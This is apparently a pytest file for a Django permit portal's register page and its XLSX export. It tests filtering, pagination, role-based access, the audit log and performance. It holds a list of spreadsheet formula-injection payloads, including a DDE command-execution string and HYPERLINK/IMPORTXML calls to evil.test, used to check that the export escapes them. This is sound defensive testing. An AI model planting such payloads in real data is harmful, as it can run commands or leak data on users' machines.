"""The register of a daerah: read at the desk, taken along as a sheet that holds no formula."""

import datetime
import json
import resource
import tempfile
import time
from importlib import import_module
from pathlib import Path

import openpyxl
import pytest
import time_machine
from django.apps import apps
from django.core.files.storage import default_storage
from django.db import IntegrityError, connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from many_cases import NIK, SLUG, fill

from accounts.models import Identity, Posting
from applications import register_file
from applications.models import Application, RegisterExport
from applications.office import register as pages
from imbportal import stored_files
from imbportal.demo import people
from notifications import jobs, periodic
from notifications.models import Job

BACKEND = "allauth.account.auth_backends.AuthenticationBackend"
ROOT = Path(__file__).resolve().parents[2]
ASK = {"daerah": SLUG, "tahun": "semua", "jenis": "permohonan", "kecamatan": ""}
HEAD = register_file.HEAD_ROWS
PAYLOADS = [
    '=HYPERLINK("http://evil.test","klik")', "=1+1", "=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+1",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1"', "'=1+1", ";=1+1", ",=1+1", "|=1+1",
    "%0A=1+1", "{=1+1}", "=IMPORTXML(\"http://evil.test\",\"//a\")", "http://evil.test",
    "mailto:a@evil.test", "internal:Sheet1!A1", "external:c:\\evil.xlsx", "1E5", "<b>=1</b>",
    "\x0b=1", "_x003D_1+1", "#REF!", "TRUE", "2026-01-01",
]  # fmt: skip


@pytest.fixture
def at_desk(client, demo, db):
    """Return a function that logs an officer of a daerah in and gives the client."""

    def of(role, slug=SLUG):
        client.force_login(people.officers(slug)[role], backend=BACKEND)
        return client

    return of


def words(response):
    return " ".join(response.content.decode().split())


def work():
    """Let the worker do what waits for it."""
    for job in Job.objects.filter(kind=register_file.JOB, status=Job.Status.PENDING):
        jobs.run(job.pk)


def exported(client, **changes):
    """Ask for an export, let it be made, and return its row."""
    answer = client.post("/admin/register/ekspor/", ASK | changes)
    assert answer.status_code == 302, words(answer)
    work()
    return RegisterExport.objects.get(pk=answer["Location"].split("/")[-2])


def sheet_of(export):
    return openpyxl.load_workbook(default_storage.open(export.file.name))["Register"]


# -- Read -----------------------------------------------------------------------------------
def test_the_register_tells_of_a_case_from_its_number_to_its_collection(at_desk, drive):
    case = drive("COLLECTED").case
    page = words(at_desk("bendahara").get("/admin/register/"))
    permit = case.events.get(move="issue_permit").data["papers"][0].split()[-1]
    for text in (case.number, case.holder.name, case.address, permit, "Sudah diserahkan"):
        assert text in page, text
    bill = case.bills.get(voided_at=None)
    assert f"{bill.amount:,}".replace(",", ".") in page and NIK not in page


def test_each_kind_of_paper_has_its_book(at_desk, drive):
    drive("AWAITING_PAYMENT")
    client = at_desk("auditor")
    answer = client.get("/admin/register/?jenis=skrd")
    assert "Buku register" in words(answer) and len(answer.context["rows"]) == 1
    assert "Berlaku" in words(answer)
    assert not client.get("/admin/register/?jenis=izin").context["rows"]
    assert not {"jawaban_pengaduan", "ikhtisar_rantai"} & set(dict(answer.context["books"]))


def test_the_register_goes_by_year_and_kecamatan_and_keeps_them_in_the_address(at_desk):
    cases = fill(30)
    old = timezone.now() - datetime.timedelta(days=800)
    Application.objects.filter(pk=cases[0].pk).update(registered_at=old)
    client = at_desk("petugas")
    whole = len(client.get("/admin/register/?tahun=semua").context["rows"])
    this = len(client.get(f"/admin/register/?tahun={old.year}").context["rows"])
    place = cases[4].kecamatan
    here = client.get(f"/admin/register/?tahun=semua&kecamatan={place}")
    assert (whole, this) == (30, 1)
    assert len(here.context["rows"]) == sum(case.kecamatan == place for case in cases)
    assert f'value="{place}" selected' in words(here)
    assert str(old.year) in here.context["years"]


def test_a_year_begins_at_midnight_of_the_daerah(at_desk):
    case = fill(1)[0]
    edge = datetime.datetime(2025, 12, 31, 16, 30, tzinfo=datetime.UTC)  # 00.30 WITA in 2026
    Application.objects.filter(pk=case.pk).update(registered_at=edge)
    client = at_desk("petugas")
    assert len(client.get("/admin/register/?tahun=2026").context["rows"]) == 1
    assert not client.get("/admin/register/?tahun=2025").context["rows"]


def test_all_pages_together_are_the_register_newest_first(at_desk, monkeypatch):
    monkeypatch.setattr(pages, "PAGE", 8)
    fill(20)
    client, seen, address = at_desk("petugas"), [], "?tahun=semua"
    while address:
        answer = client.get(f"/admin/register/{address}")
        seen += [row["cells"][0][1] for row in answer.context["rows"]]
        address = answer.context["following"]
    newest = Application.objects.order_by("-registered_at", "-id")
    assert seen == list(newest.values_list("number", flat=True))


def test_nobody_reads_the_register_of_another_daerah(at_desk, drive):
    case = drive("SUBMITTED").case
    answer = at_desk("petugas", "pamekasan").get("/admin/register/?daerah=contoh")
    assert case.number not in words(answer) and answer.context["part"].daerah == "pamekasan"


def test_a_book_asks_the_same_of_ten_cases_and_of_a_hundred(at_desk):
    fill(10)
    client = at_desk("petugas")

    def queries():
        with CaptureQueriesContext(connection) as asked:
            assert client.get("/admin/register/?tahun=semua").status_code == 200
        return len(asked)

    queries()
    few = queries()
    fill(90, seed="b")
    assert queries() == few <= 20


# -- Taken along ------------------------------------------------------------------------------
def test_the_spreadsheet_has_typed_cells_a_title_and_a_head_that_stays(at_desk, drive):
    case = drive("COLLECTED").case
    sheet = sheet_of(exported(at_desk("auditor")))
    assert sheet["A1"].value == "Buku register permohonan Kabupaten Contoh"
    assert sheet["A2"].value == "Semua tahun, semua kecamatan. 1 baris."
    assert "oleh" in sheet["A3"].value and "WITA" in sheet["A3"].value
    assert sheet.freeze_panes == f"B{HEAD + 1}"
    heads = {cell.value: cell.column - 1 for cell in sheet[HEAD]}
    row = sheet[HEAD + 1]
    assert row[heads["Nomor"]].value == case.number
    assert row[heads["Tanggal"]].is_date and row[heads["Tanggal izin"]].is_date
    assert row[heads["Retribusi (Rp)"]].value == case.bills.get(voided_at=None).amount
    assert row[heads["Luas (m²)"]].value == pytest.approx(float(case.floor_area))
    assert {row[heads[name]].data_type for name in ("Retribusi (Rp)", "Luas (m²)")} == {"n"}
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[HEAD]]
    assert min(widths) >= 12


def test_no_text_becomes_a_formula_or_a_link(at_desk):
    cases = fill(len(PAYLOADS))
    for case, payload in zip(cases, PAYLOADS, strict=True):
        own = Identity.objects.create(name=payload, address="Jl. Uji")
        Application.objects.filter(pk=case.pk).update(address=payload, number=payload, holder=own)
    sheet = sheet_of(exported(at_desk("admin")))
    found = set()
    for row in list(sheet.rows)[HEAD:]:
        for cell in (row[0], row[2], row[3]):
            assert cell.data_type == "s" and cell.hyperlink is None, cell.value
            assert cell.quotePrefix, "editing the cell would make a formula of it"
        assert row[0].value == row[2].value == row[3].value
        found.add(printable(row[0].value))
    assert found == {printable(payload) for payload in PAYLOADS}


def printable(text):
    """Return a text without the control characters, which a sheet writes as ``_x000D_``."""
    plain = text.replace("_x000D_", "").replace("_x000B_", "").replace("_x005F_", "_")
    return "".join(letter for letter in plain if letter >= " ")


def test_without_the_guard_a_formula_is_seen(at_desk, monkeypatch):
    """Negative control: cells written by the look of their value."""
    case = fill(1)[0]
    Application.objects.filter(pk=case.pk).update(number="=1+1")
    by_looks = {"constant_memory": True}
    monkeypatch.setattr(register_file, "PLAIN", by_looks)
    monkeypatch.setitem(
        register_file.WRITERS,
        "text",
        lambda sheet, row, at, value, how: sheet.write(row, at, value),
    )
    assert sheet_of(exported(at_desk("admin")))[HEAD + 1][0].data_type == "f"


def test_no_nik_is_in_the_spreadsheet(at_desk):
    fill(20)
    sheet = sheet_of(exported(at_desk("admin")))
    text = " ".join(str(cell.value) for row in sheet for cell in row)
    assert NIK not in text and "352801" not in text


def test_the_filter_of_the_page_is_that_of_the_file(at_desk):
    cases = fill(30)
    place = cases[4].kecamatan
    export = exported(at_desk("admin"), kecamatan=place)
    assert export.written == export.total == sum(case.kecamatan == place for case in cases)
    assert export.filters["kecamatan"] == place


def test_a_paper_book_is_taken_along_too(at_desk, drive):
    driver = drive("AWAITING_PAYMENT")
    sheet = sheet_of(exported(at_desk("kepala"), jenis="skrd"))
    assert sheet[HEAD + 1][0].value == driver.case.bills.get().number


# -- Who may ------------------------------------------------------------------------------------
@pytest.mark.parametrize("role", ["petugas", "bendahara", "tim_teknis"])
def test_who_only_works_on_cases_reads_but_takes_nothing_along(at_desk, role):
    client = at_desk(role)
    assert "Buat berkas XLSX" not in words(client.get("/admin/register/"))
    assert client.post("/admin/register/ekspor/", ASK).status_code == 403
    assert not RegisterExport.objects.exists()


@pytest.mark.parametrize("role", ["admin", "auditor", "kepala"])
def test_who_answers_for_the_office_takes_it_along(at_desk, role):
    fill(1)
    client = at_desk(role)
    assert "Buat berkas XLSX" in words(client.get("/admin/register/"))
    export = exported(client)
    answer = client.get(f"/admin/register/ekspor/{export.pk}/unduh/")
    assert b"".join(answer.streaming_content)[:2] == b"PK"
    assert "attachment" in answer["Content-Disposition"]
    export.refresh_from_db()
    assert export.by == people.officers(SLUG)[role] and export.fetched_at


def test_nobody_takes_along_another_daerahs_register(at_desk):
    answer = at_desk("admin", "pamekasan").post("/admin/register/ekspor/", ASK)
    assert answer.status_code == 403 and not RegisterExport.objects.exists()


@pytest.mark.parametrize(("role", "slug"), [("auditor", SLUG), ("admin", "pamekasan")])
def test_an_export_is_its_askers_alone(at_desk, role, slug):
    export = exported(at_desk("admin"))
    client = at_desk(role, slug)
    for page in ("", "unduh/"):
        assert client.get(f"/admin/register/ekspor/{export.pk}/{page}").status_code == 404


def test_a_posting_that_ended_ends_the_download_too(at_desk):
    export = exported(at_desk("admin"))
    admin = people.officers(SLUG)["admin"]
    Posting.objects.filter(user=admin).update(role="petugas", unit="dinas")
    answer = at_desk("admin").get(f"/admin/register/ekspor/{export.pk}/unduh/")
    assert answer.status_code == 403


def test_an_export_is_not_made_for_who_lost_the_posting_meanwhile(at_desk):
    client = at_desk("admin")
    client.post("/admin/register/ekspor/", ASK)
    Posting.objects.filter(user=people.officers(SLUG)["admin"]).update(role="petugas")
    work()
    export = RegisterExport.objects.get()
    assert export.failed_at and not export.file


# -- Log, progress, end ---------------------------------------------------------------------------
def test_who_took_what_along_can_be_neither_changed_nor_removed(at_desk):
    export = exported(at_desk("admin"))
    for change in ({"filters": {}}, {"daerah": "lain"}, {"created_at": timezone.now()}):
        with pytest.raises(IntegrityError, match="append-only"), transaction.atomic():
            RegisterExport.objects.filter(pk=export.pk).update(**change)
    with pytest.raises(IntegrityError, match="append-only"), transaction.atomic():
        export.delete()


def test_the_progress_is_told_in_percent_and_never_as_ready_before_it_is(at_desk, monkeypatch):
    monkeypatch.setattr(register_file, "CHUNK", 10)
    fill(30)
    client = at_desk("admin")
    address = client.post("/admin/register/ekspor/", ASK)["Location"]
    assert "Menunggu giliran" in words(client.get(address))
    told, entries = [], register_file.register.entries

    def watched(part, piece):
        told.append(words(client.get(address)))
        return entries(part, piece)

    monkeypatch.setattr(register_file.register, "entries", watched)
    work()
    assert ["Sedang dibuat: 0 %" in told[0], "Sedang dibuat: 33 %" in told[1]] == [True, True]
    assert "Sedang dibuat: 66 %" in told[2] and "Unduh XLSX" not in told[2]
    assert "Berkas siap: 30 baris" in words(client.get(address))


def test_a_try_that_broke_off_leaves_one_file_when_done_again(at_desk, monkeypatch):
    fill(3)
    client = at_desk("admin")
    client.post("/admin/register/ekspor/", ASK)
    export = RegisterExport.objects.get()
    update = RegisterExport.objects.filter

    def dies(**which):
        raise OSError("the machine went away") if "ready_at" in which else AssertionError

    with monkeypatch.context() as broken:
        real = register_file.default_storage.save
        broken.setattr(
            register_file.default_storage, "save",
            lambda *given: (real(*given), dies(ready_at=None)),
        )  # fmt: skip
        with pytest.raises(OSError, match="went away"):
            register_file.make(str(export.pk))
    register_file.make(str(export.pk))
    with tempfile.NamedTemporaryFile() as late:  # of a second worker, behind the first one
        register_file._keep(export, late)
    assert update(pk=export.pk).get().file
    assert len(default_storage.listdir("register")[1]) == 1
    assert not list(stored_files.wrong()) and not list(stored_files.orphans(0))


def test_the_file_goes_after_some_days_and_its_log_stays(at_desk):
    client = at_desk("admin")
    export = exported(client)
    name = export.file.name
    register_file.remove_old()
    assert default_storage.exists(name)
    later = timezone.now() + register_file.KEPT + datetime.timedelta(hours=1)
    with time_machine.travel(later, tick=False):
        periodic.perform("hapus_ekspor")
    export.refresh_from_db()
    assert not default_storage.exists(name) and not export.file and export.removed_at
    assert client.get(f"/admin/register/ekspor/{export.pk}/unduh/").status_code == 409
    assert "Berkas sudah dihapus" in words(client.get(f"/admin/register/ekspor/{export.pk}/"))


# -- Figures ------------------------------------------------------------------------------------
@pytest.mark.parametrize("count", [500, pytest.param(10_000, marks=pytest.mark.panjang)])
def test_what_an_export_costs(at_desk, count):
    fill(count)
    client = at_desk("admin")
    client.post("/admin/register/ekspor/", ASK)
    before, begin = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.perf_counter()
    work()
    seconds = time.perf_counter() - begin
    export = RegisterExport.objects.get()
    figures = {
        "figure": "register export", "database": connection.vendor, "rows": export.written,
        "s": round(seconds, 1), "rows/s": round(export.written / seconds),
        "kB": export.file.size // 1024,
        "more memory MiB": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024,
    }  # fmt: skip
    line = json.dumps(figures)
    print(line)  # noqa: T201
    (ROOT / "reports").mkdir(exist_ok=True)
    (ROOT / "reports" / f"register-{connection.vendor}-{count}.json").write_text(line + "\n")
    assert sheet_of(export).max_row == HEAD + count
    assert seconds < 55, "a lease is 60 seconds"


def test_cases_from_before_the_register_get_their_place_by_their_first_number(drive):
    case = drive("KRK_ISSUED").case
    first = case.events.get(move="request_krk").at
    Application.objects.filter(pk=case.pk).update(registered_at=None)
    import_module("applications.migrations.0005_register_of_old").fill(apps, None)
    case.refresh_from_db()
    assert case.registered_at == first
